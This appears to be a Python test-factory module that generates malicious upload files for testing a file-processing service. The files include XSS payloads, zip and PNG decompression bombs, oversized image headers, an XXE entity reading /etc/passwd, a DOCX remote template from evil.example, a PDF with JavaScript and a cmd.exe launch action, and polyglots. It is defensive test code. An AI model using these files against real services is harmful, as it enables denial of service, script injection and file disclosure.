"""Malicious files: each is built by a function, none is stored in the repository."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from tests.factories.files import DOCX, JPEG, PDF, PNG, archive, docx, heic, picture

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
MEGABYTE = 1024 * 1024


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG, checksum included."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with(*chunks: bytes) -> bytes:
    """A small valid picture with chunks inserted after its header."""
    return PNG[:33] + b"".join(chunks) + PNG[33:]


def huge_png() -> bytes:
    """40,000 × 40,000, in a few hundred bytes: the header is enough to fill the memory."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 40_000, 40_000, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0" * 1000))


def long_png() -> bytes:
    """25,000 × 10: few pixels, but one side over the limit."""
    return picture("PNG", (25_000, 10))


def huge_jpeg() -> bytes:
    """A valid JPEG whose frame header (SOF0) says 40,000 × 40,000."""
    place = JPEG.index(b"\xff\xc0") + 5
    return JPEG[:place] + struct.pack(">HH", 40_000, 40_000) + JPEG[place + 4 :]


def huge_webp() -> bytes:
    """An extended header (VP8X) that says 16,384 × 16,384."""
    side = struct.pack("<I", 16_383)[:3]
    frame = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + side + side
    content = picture("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", 4 + len(frame) + len(content)) + b"WEBP" + frame + content


def huge_heic() -> bytes:
    """A photograph with a side too long."""
    return heic((20_016, 64))


def animated(encoding: str) -> bytes:
    content = io.BytesIO()
    frames = [Image.new("RGB", (32, 32), (shade, 0, 0)) for shade in range(0, 250, 25)]
    frames[0].save(content, encoding, save_all=True, append_images=frames[1:])
    return content.getvalue()


def text_bomb() -> bytes:
    """A compressed text (zTXt) of 100 MB in a valid PNG."""
    return png_with(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"0" * 100 * MEGABYTE, 9)))


def profile_bomb() -> bytes:
    """A colour profile (iCCP) of 100 MB in a valid PNG."""
    return png_with(chunk(b"iCCP", b"bomb\0\0" + zlib.compress(b"0" * 100 * MEGABYTE, 9)))


def broken_profile() -> bytes:
    """An invalid colour profile: the colours are read without it."""
    return picture("JPEG", icc_profile=b"acsp" * 40)


def jpeg_with_metadata() -> bytes:
    """A JPEG with a location, a camera and HTML in its EXIF, its XMP and a comment."""
    exif = Image.Exif()
    exif[0x010E], exif[0x0110] = "<script>alert(1)</script>", "CAMERA-SECRETE"
    exif.get_ifd(0x8825)[2] = (48.0, 51.0, 24.0)
    return picture("JPEG", exif=exif, xmp=b"<x>LIEU-SECRET</x>", comment=b"COMMENTAIRE" + SCRIPT)


def png_with_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "AUTEUR-SECRET")
    info.add_itxt("XML:com.adobe.xmp", "<x>LIEU-SECRET</x>")
    return picture("PNG", pnginfo=info)


def mpo() -> bytes:
    """A telephone's photograph that hides a second one (MPO)."""
    content = io.BytesIO()
    seen, hidden = Image.new("RGB", (64, 48), "red"), Image.new("RGB", (64, 48), "blue")
    seen.save(content, "MPO", save_all=True, append_images=[hidden])
    return content.getvalue()


def bomb(size: int = 300 * MEGABYTE) -> bytes:
    """A text of zeros, a thousand times smaller once compressed."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("word/document.xml", "<w/>")
        with file.open("word/media/zeros.bin", "w") as member:
            for _part in range(size // MEGABYTE):
                member.write(b"\0" * MEGABYTE)
    return content.getvalue()


def bomb_with_false_size() -> bytes:
    """A bomb whose central directory claims a hundred bytes."""
    content = bytearray(bomb(50 * MEGABYTE))
    true = struct.pack("<I", 50 * MEGABYTE)
    for place in (content.find(true), content.rfind(true)):
        content[place : place + 4] = struct.pack("<I", 100)
    return bytes(content)


def overlapping() -> bytes:
    """Many entries over the same compressed bytes (Fifield, 2019)."""
    content = bytearray(docx(**{f"word/media/{n}.bin": "0" * 20_000 for n in range(50)}))
    start = content.index(b"PK\x01\x02")
    # Point every entry of the directory at the first one.
    place = start
    while content[place : place + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack("<3H", content[place + 28 : place + 34])
        content[place + 42 : place + 46] = b"\0\0\0\0"
        place += 46 + name + extra + comment
    return bytes(content)


def nested(depth: int = 5) -> bytes:
    """Archives nested in each other."""
    inner = archive({"zeros.txt": "0" * MEGABYTE})
    for _level in range(depth):
        inner = archive({"inner.zip": inner}, compression=zipfile.ZIP_STORED)
    return docx(**{"word/embeddings/inner.zip": inner})


def crowded() -> bytes:
    """Ten thousand members."""
    return archive(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}
        | {f"word/{n}": "" for n in range(10_000)}
    )


def encrypted() -> bytes:
    """An archive whose members have the encryption flag."""
    content = bytearray(DOCX)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(signature, place + 4)
    return bytes(content)


def external(kind: str) -> bytes:
    """A document with a part fetched from elsewhere when it opens."""
    relation = (
        '<Relationships><Relationship Id="r1" Target="http://evil.example/t.dotm" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'TargetMode="External"/></Relationships>'
    )
    return docx(**{"word/_rels/settings.xml.rels": relation})


def entities(text="<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><w>&x;</w>") -> bytes:
    return archive({"[Content_Types].xml": "<Types/>", "word/document.xml": text})


def climbing(name: str) -> bytes:
    return docx(**{name: "x"})


ACTIVE_PDF = PDF.replace(
    b"<<>>",
    b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /O << /S /Launch "
    b"/F (cmd.exe) >> >> /Names << /EmbeddedFiles << >> >> >>",
    1,
)
HTML_PDF = PDF.replace(b"%%EOF", b"<html>" + SCRIPT + b"</html>\n%%EOF")
ZIP_PDF = PDF + archive({"a.class": "CAFEBABE"})
GIFAR = JPEG + archive({"Applet.class": "CAFEBABE"})
HTML_JPEG = JPEG[:20] + b"\xff\xfe" + struct.pack(">H", 2 + len(SCRIPT)) + SCRIPT + JPEG[20:]
